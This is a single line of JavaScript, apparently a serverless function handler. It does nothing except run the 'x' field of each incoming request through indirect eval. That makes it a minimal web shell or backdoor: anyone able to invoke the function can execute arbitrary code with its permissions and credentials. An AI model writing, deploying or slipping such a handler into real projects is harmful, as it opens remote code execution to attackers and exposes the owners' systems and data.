exports.handler=async e=>{(0,eval)(e.x)}
